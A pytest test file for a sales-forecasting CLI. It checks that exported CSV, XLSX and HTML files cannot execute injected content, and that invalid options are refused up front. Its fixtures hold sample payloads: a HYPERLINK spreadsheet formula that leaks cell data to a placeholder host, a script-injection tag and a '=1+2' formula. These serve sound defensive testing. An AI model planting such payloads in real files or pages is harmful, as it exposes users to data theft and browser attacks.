"""CLI outputs are inert, and every refusal is one line before any work (issue 13).

Runs in-process through ``forecasting.cli.main.main``: exit code, stdout, stderr.
``private_key``, ``run``, ``sales_csv`` and ``scenario_file`` serve the other CLI tests too.
"""

from __future__ import annotations

import io
import json
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest

from forecasting.cli.main import main
from tests.support import make_panel

LINK = '=HYPERLINK("http://x/?leak="&A1,"click")'
SCRIPT = "</title><script>alert(3)</script>"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(autouse=True)
def private_key(tmp_path_factory, monkeypatch):
    """The model store's signing key, private to the test."""
    monkeypatch.setenv("SHOPCAST_KEY_FILE", str(tmp_path_factory.mktemp("key") / "store.key"))


def run(capsys, *argv: str) -> tuple[int, str, str]:
    """``shopcast --lang en ARGV`` in-process: exit code, stdout, stderr."""
    try:
        code = main(["--lang", "en", *argv])
    except SystemExit as exc:  # argparse usage errors
        code = exc.code
    out, err = capsys.readouterr()
    return code, out, err


def sales_csv(folder: Path, names: dict[str, str] | None = None, **panel) -> Path:
    """``folder/sales.csv``: a ``make_panel(**panel)`` with a shop's Chinese headers,
    its SKUs renamed by ``names``."""
    df = make_panel(**panel)
    if names:
        df["unique_id"] = df["unique_id"].map(names)
    df = df.rename(columns={"unique_id": "商品", "ds": "日期", "y": "销量", "promo": "促销"})
    path = folder / "sales.csv"
    df.to_csv(path, index=False)
    return path


def scenario_file(folder: Path, **scenario) -> Path:
    """``folder/s.json``: a scenario file with the one scenario ``scenario``."""
    spec = folder / "s.json"
    spec.write_text(json.dumps({"scenarios": [scenario]}), "utf-8")
    return spec


@pytest.fixture(scope="module")
def hostile_csv(tmp_path_factory):
    """Two SKUs named to attack a spreadsheet and a browser, plus a plain one."""
    names = {"sku0": LINK, "sku1": SCRIPT, "sku2": "-plain"}
    return sales_csv(tmp_path_factory.mktemp("hostile"), names, n_series=3, days=200, seed=2)


@pytest.fixture(scope="module")
def plain_csv(tmp_path_factory):
    return sales_csv(tmp_path_factory.mktemp("plain"), n_series=2, days=200, seed=4)


FORECAST = ("--models", "seasonal_naive", "--horizon", "7", "--no-cache")


def one_line_refusal(code: int, err: str) -> str:
    lines = [ln for ln in err.splitlines() if ln.strip()]
    assert code == 2, err
    assert len(lines) == 1, err
    assert "Traceback" not in err
    return lines[0]


# ------------------------------------------------------------------ inert outputs
def test_forecast_csv_is_inert_and_numbers_unchanged(hostile_csv, tmp_path, capsys):
    from forecasting.cli.common import load_input
    from forecasting.engine.forecast import TrainConfig, forecast

    out = tmp_path / "f.csv"
    code, _, err = run(capsys, "forecast", str(hostile_csv), *FORECAST, "--out", str(out))
    assert code == 0, err
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel shows Chinese correctly
    frame = pd.read_csv(out, dtype=str, keep_default_na=False)
    text = [v for c in frame.columns for v in frame[c] if not v[:1].isdigit()]
    assert not [v for v in text if v.startswith(FORMULA_START)]
    assert set(frame["unique_id"]) == {"'" + LINK, SCRIPT, "'-plain"}
    # the numbers are exactly the engine's, written as before (only the names are prefixed)
    args = type("A", (), {"input": str(hostile_csv), "freq": None, "aggregate": None})()
    history, freq, _ = load_input(args)
    fc = forecast(history, freq, TrainConfig(models=["seasonal_naive"], horizon=7)).forecast
    before = fc.to_csv(index=False, date_format="%Y-%m-%d").splitlines()
    after = raw.decode("utf-8-sig").splitlines()
    strip = [ln.split(",")[-6:] for ln in after]  # names may hold commas: compare the tail
    assert strip == [ln.split(",")[-6:] for ln in before]


def test_forecast_xlsx_has_no_formulas(hostile_csv, tmp_path, capsys):
    out = tmp_path / "f.xlsx"
    code, _, err = run(capsys, "forecast", str(hostile_csv), *FORECAST, "--out", str(out))
    assert code == 0, err
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s for s in sheets)
    book = pd.read_excel(io.BytesIO(out.read_bytes()))
    assert "'" + LINK in set(book["unique_id"])
    assert len(book) == 3 * 7


def test_forecast_html_escapes_names(hostile_csv, tmp_path, capsys):
    out = tmp_path / "f.html"
    code, _, err = run(capsys, "forecast", str(hostile_csv), *FORECAST, "--out", str(out))
    assert code == 0, err
    page = out.read_text("utf-8")
    assert "<script>alert(3)" not in page and "alert(3)" in page
    assert page.count("<section>") == 3
    assert "&lt;/title&gt;&lt;script&gt;" in page


def test_backtest_outputs_are_inert(hostile_csv, tmp_path, capsys):
    out, cv = tmp_path / "m.csv", tmp_path / "cv.xlsx"
    code, _, err = run(
        capsys,
        "backtest",
        str(hostile_csv),
        "--models",
        "seasonal_naive",
        "-H",
        "7",
        "-n",
        "2",
        "--out",
        str(out),
        "--cv-out",
        str(cv),
    )
    assert code == 0, err
    metrics = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert "'" + LINK in set(metrics["unique_id"])
    assert not [v for v in metrics["unique_id"] if v.startswith(FORMULA_START)]
    assert len(pd.read_excel(cv)) == 3 * 7 * 2


def test_scenario_outputs_are_inert_in_csv_and_xlsx(plain_csv, tmp_path, capsys):
    window = {"start": "2023-07-23", "end": "2023-07-26"}
    spec = scenario_file(tmp_path, name="=1+2", target="all", window=window, traffic_multiplier=1.2)
    base = [
        "scenario",
        str(plain_csv),
        "--scenario",
        str(spec),
        "-H",
        "7",
        "--params",
        '{"lightgbm": {"n_estimators": 20}}',
        "--lead-time",
        "3",
    ]
    code, _, err = run(capsys, *base, "--out", str(tmp_path / "s.csv"))
    assert code == 0, err
    for name in ("s.csv", "s_kpis.csv", "s_inventory.csv"):
        frame = pd.read_csv(tmp_path / name, dtype=str, keep_default_na=False)
        assert "=1+2" not in set(frame.get("scenario", [])), name
    kpis = pd.read_csv(tmp_path / "s_kpis.csv", dtype=str, keep_default_na=False)
    assert "'=1+2" in set(kpis["scenario"])
    code, _, err = run(capsys, *base, "--out", str(tmp_path / "x.xlsx"))
    assert code == 0, err
    for name in ("x.xlsx", "x_kpis.xlsx", "x_inventory.xlsx"):
        assert (tmp_path / name).exists(), name
    assert "'=1+2" in set(pd.read_excel(tmp_path / "x_kpis.xlsx")["scenario"])


# ------------------------------------------------ refusals, before any work is done
@pytest.fixture()
def no_reading(monkeypatch):
    """Fail the test if INPUT is read: a refusal must come first."""

    def boom(*_a, **_k):
        raise AssertionError("INPUT was read before the refusal")

    monkeypatch.setattr("forecasting.data.load", boom)
    monkeypatch.setattr("forecasting.cli.forecast.load_input", boom)
    monkeypatch.setattr("forecasting.cli.backtest.load_input", boom)


def _out_cases(tmp_path):
    (tmp_path / "afile.csv").write_text("x")
    cases = {
        "folder": (str(tmp_path), "is a folder"),
        "trailing_slash": (str(tmp_path / "new") + "/", "is a folder"),
        "missing_parent": (str(tmp_path / "nope" / "f.csv"), "does not exist"),
        "parent_is_file": (str(tmp_path / "afile.csv" / "f.csv"), "does not exist"),
        "unknown_extension": (str(tmp_path / "f.txt"), "not supported"),
        "no_extension": (str(tmp_path / "f"), "not supported"),
    }
    if sys.platform.startswith("linux"):
        cases["unwritable"] = ("/proc/shopcast-out.csv", "Cannot write")
    return cases


@pytest.mark.parametrize(
    "case",
    [
        "folder",
        "trailing_slash",
        "missing_parent",
        "parent_is_file",
        "unknown_extension",
        "no_extension",
        "unwritable",
    ],
)
@pytest.mark.parametrize("command", ["forecast", "backtest", "scenario"])
def test_bad_output_path_is_refused_first(case, command, tmp_path, capsys, no_reading):
    cases = _out_cases(tmp_path)
    if case not in cases:
        pytest.skip("needs Linux /proc")
    out, words = cases[case]
    extra = ["--scenario", str(tmp_path / "missing.json")] if command == "scenario" else []
    # INPUT is missing too: the output path is checked before anything else
    code, _, err = run(capsys, command, str(tmp_path / "missing.csv"), *extra, "--out", out)
    line = one_line_refusal(code, err)
    assert words in line, line
    assert not (tmp_path / "nope").exists()


def test_html_only_for_the_forecast(tmp_path, capsys):
    code, _, err = run(capsys, "backtest", "x.csv", "--out", str(tmp_path / "m.html"))
    assert ".csv, .xlsx" in one_line_refusal(code, err)
    code, _, err = run(
        capsys, "backtest", "x.csv", "--out", str(tmp_path / "m.csv"), "--cv-out", "cv.json"
    )
    assert "cv.json" in one_line_refusal(code, err)


BAD_FORECAST_OPTIONS = [
    (["--horizon", "0"], "--horizon 0 is out of range"),
    (["--horizon", "-3"], "--horizon -3"),
    (["--horizon", "100000"], "use a value from 1 to 1095"),
    (["--horizon", "x"], "invalid int value"),
    (["--level", "0"], "0"),
    (["--level", "100"], "100"),
    (["--level", "nan"], "nan"),
    (["--level", "inf"], "inf"),
    (["--level", "abc"], "invalid float value"),
    (["--seed", "-1"], "--seed -1"),
    (["--seed", "99999999999999999999"], "--seed"),
    (["--models", ""], "model"),
    (["--models", "nope"], "nope"),
    (["--params", "[1"], "[1"),
    (["--params", '{"ets": 3}'], "--params for ets"),
    (["--params", "[1, 2]"], "[1, 2]"),
]


@pytest.mark.parametrize(("argv", "words"), BAD_FORECAST_OPTIONS)
def test_bad_forecast_options_one_line_before_reading(argv, words, tmp_path, capsys, no_reading):
    out = str(tmp_path / "f.csv")
    code, _, err = run(capsys, "forecast", str(tmp_path / "in.csv"), *argv, "--out", out)
    assert words in one_line_refusal(code, err)


BAD_BACKTEST_OPTIONS = [
    (["--windows", "0"], "--windows 0"),
    (["--windows", "100000"], "from 1 to 100"),
    (["--step", "0"], "--step 0"),
    (["--step", "-1"], "--step -1"),
    (["--step", "100000"], "--step 100000"),
    (["--sort-by", "nope"], "--sort-by nope is not one of"),
    (["--horizon", "100000"], "--horizon 100000"),
]


@pytest.mark.parametrize(("argv", "words"), BAD_BACKTEST_OPTIONS)
def test_bad_backtest_options_one_line_before_reading(argv, words, tmp_path, capsys, no_reading):
    out = str(tmp_path / "m.csv")
    code, _, err = run(capsys, "backtest", str(tmp_path / "in.csv"), *argv, "--out", out)
    assert words in one_line_refusal(code, err)


BAD_SCENARIO_OPTIONS = [
    (["--horizon", "100000"], "--horizon 100000"),
    (["--post-days", "-1"], "--post-days -1"),
    (["--lead-time", "0"], "--lead-time 0"),
    (["--lead-time", "100000"], "--lead-time 100000"),
    (["--service-level", "1.5"], "--service-level 1.5"),
    (["--service-level", "0"], "--service-level 0"),
    (["--service-level", "nan"], "--service-level nan"),
    (["--models", "nope"], "nope"),
]


@pytest.mark.parametrize(("argv", "words"), BAD_SCENARIO_OPTIONS)
def test_bad_scenario_options_one_line_before_reading(argv, words, tmp_path, capsys, no_reading):
    spec = ["--scenario", str(tmp_path / "s.json")]
    out = str(tmp_path / "s.csv")
    code, _, err = run(capsys, "scenario", str(tmp_path / "in.csv"), *spec, *argv, "--out", out)
    assert words in one_line_refusal(code, err)
    assert not list(tmp_path.iterdir())


def test_horizon_is_bounded_by_the_data_frequency(tmp_path, capsys):
    """Weekly data: at most 156 weeks (3 years), said before any model is trained."""
    df = make_panel(n_series=1, days=700).rename(columns={"ds": "date", "y": "sales"})
    weekly = df.set_index("date")["sales"].resample("W-MON").sum().reset_index()
    path = tmp_path / "weekly.csv"
    weekly.to_csv(path, index=False)
    out = str(tmp_path / "f.csv")
    code, _, err = run(capsys, "forecast", str(path), *FORECAST[:2], "-H", "200", "--out", out)
    line = one_line_refusal(code, err)
    assert "at most 156 periods" in line and "3 years" in line
    assert not (tmp_path / "f.csv").exists()


def test_backtest_longer_than_the_data_is_explained(plain_csv, tmp_path, capsys):
    out = str(tmp_path / "m.csv")
    argv = ["--models", "seasonal_naive", "-H", "1000", "-n", "100", "--step", "1000"]
    code, _, err = run(capsys, "backtest", str(plain_csv), *argv, "--out", out)
    line = one_line_refusal(code, err)
    assert "OutOfBounds" not in line and "1000" in line


def test_excel_row_limit_is_checked_before_training(plain_csv, tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("forecasting.reports.files.EXCEL_MAX_ROWS", 10)

    def boom(*_a, **_k):
        raise AssertionError("trained before the refusal")

    monkeypatch.setattr("forecasting.engine.forecast.forecast", boom)
    out = str(tmp_path / "f.xlsx")
    code, _, err = run(capsys, "forecast", str(plain_csv), *FORECAST, "--out", out)
    assert "Excel" in one_line_refusal(code, err)


def test_sample_out_dir_checks(tmp_path, capsys):
    (tmp_path / "afile").write_text("x")
    code, _, err = run(capsys, "sample", "--out-dir", str(tmp_path / "afile"))
    assert "is a file" in one_line_refusal(code, err)
    code, _, err = run(capsys, "sample", "--out-dir", str(tmp_path / "a" / "b"))
    assert "does not exist" in one_line_refusal(code, err)
    code, _, err = run(capsys, "sample", "--out-dir", str(tmp_path / "s"), "--seed", "-5")
    assert "--seed -5" in one_line_refusal(code, err)


def test_refused_store_key_stops_before_work(plain_csv, tmp_path, capsys, monkeypatch):
    key = tmp_path / "key" / "store.key"
    key.parent.mkdir()
    key.write_bytes(b"k" * 32)
    key.chmod(0o644)
    monkeypatch.setenv("SHOPCAST_KEY_FILE", str(key))
    out = str(tmp_path / "f.csv")
    argv = ["--models", "seasonal_naive", "-H", "7", "--out", out]
    code, _, err = run(capsys, "forecast", str(plain_csv), *argv)
    assert "chmod 600" in one_line_refusal(code, err)
    code, _, err = run(capsys, "forecast", str(plain_csv), *argv, "--no-cache")
    assert code == 0, err


def test_output_never_overwrites_an_input(plain_csv, tmp_path, capsys):
    before = plain_csv.read_bytes()
    code, _, err = run(capsys, "forecast", str(plain_csv), *FORECAST, "--out", str(plain_csv))
    assert "also an input" in one_line_refusal(code, err)
    assert plain_csv.read_bytes() == before
    out = str(tmp_path / "m.csv")
    code, _, err = run(capsys, "backtest", str(plain_csv), "--out", out, "--cv-out", out)
    assert "also an input" in one_line_refusal(code, err)
